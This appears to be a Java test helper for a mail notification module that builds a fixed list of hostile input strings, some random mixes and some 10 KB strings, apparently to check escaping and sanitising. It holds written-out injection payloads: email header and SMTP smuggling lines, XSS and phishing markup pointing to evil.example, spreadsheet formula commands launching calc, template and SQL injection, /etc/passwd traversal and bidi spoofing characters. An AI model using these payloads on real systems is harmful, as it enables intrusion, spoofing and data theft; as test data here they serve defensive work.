package org.faultline.notify.mail;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** A hundred and twenty texts that mean harm: to headers, to markup, to the order of letters, to spreadsheets, to the patience of readers. */
final class HostileStrings {
    private static final List<String> BY_HAND = List.of(
            "x\r\nBcc: all@example.org",
            "x\nX-Evil: 1\n\n<h1>body</h1>",
            "x\rSubject: other",
            "x\u0085Bcc: a@b",
            "x\u2028Bcc: a@b\u2029",
            "\u202Egnp.exe\u202C",
            "\u2066\u2067isolated\u2069\u2069\u2069",
            "\u2068\u2068never closed",
            "\u2069\u2069\u2069closes ours",
            "a\u200Fb\u200Ec\u061Cd",
            "\u0000nul\u0007bell\u001B[31mred\u001B[0m",
            "\uFEFFbom\uFFF9annotated\uFFFB",
            "\uD800 half a pair",
            "\uDC00\uD800 two halves",
            "\uDB40\uDC41 tag",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</td></tr></table><form action=https://evil.example><input name=p>",
            "\"><a href=\"https://evil.example\">click</a>",
            "' onmouseover='alert(1)",
            "<style>*{display:none}</style>",
            "<!-- <b>",
            "]]><![CDATA[<b>x</b>]]>",
            "<bdi><bdo dir=rtl>x</bdo>",
            "</title><base href=//evil.example>",
            "&lt;b&gt;&#60;i&#62;&#x3c;u&#x3e;",
            "<svg/onload=alert(1)>",
            "<math><mtext><a href=javascript:alert(1)>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "{page.frame.unsubscribe}",
            "{#if true}{/if}{!",
            "{reports, plural, one{#}} '{'0}",
            "${java:version} #{T(java.lang.Runtime)}",
            "=HYPERLINK(\"https://evil.example\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd",
            "https://evil.example/?q=<b>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "JaVaScRiPt:alert(1)",
            "//evil.example",
            "https://user:pass@evil.example/",
            "file:///etc/passwd",
            "cid:map",
            "mailto:a@b?bcc=c@d",
            "=?utf-8?q?=0D=0ABcc:_a@b?=",
            "=?utf-8?b?PGI+eDwvYj4=?=",
            "--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
            ".\r\nMAIL FROM:<a@b>",
            "From me to you",
            "TLP:RED [TLP:AMBER+STRICT] (tlp:green)",
            "%s%n%d%x",
            "'; drop table report; --",
            "../../../../etc/passwd",
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 é̷̡͎͕͌",
            "שלום <b>עולם</b>",
            "مرحبا <b>بالعالم</b> \u202Eabc",
            "|assad-side|[CLASH, ATTACK]|2024-11-02",
            " ",
            "");

    private static final String PIECES = "<>\"'&\r\n\t\u0000\u202E\u2066\u2069\u200F{}$#=+-@:;/\\%|`~ابتabc é𝔘";

    private HostileStrings() {}

    /** Always the same: those by hand, some put together by chance, and twenty without end. */
    static List<String> all() {
        List<String> all = new ArrayList<>(BY_HAND);
        Random random = new Random(6);
        while (all.size() < 100) {
            StringBuilder text = new StringBuilder();
            int[] pieces = PIECES.codePoints().toArray();
            for (int i = random.nextInt(60); i >= 0; i--) {
                text.appendCodePoint(pieces[random.nextInt(pieces.length)]);
            }
            all.add(text.toString());
        }
        for (String endless : List.of("A", "é", "&", "<", "\"", "\u202E", "ا", "𝔘", "=", "a\r\n")) {
            all.add(endless.repeat(10_240 / endless.length()));
            all.add("https://example.org/" + endless.repeat(10_240 / endless.length()));
        }
        return all;
    }
}
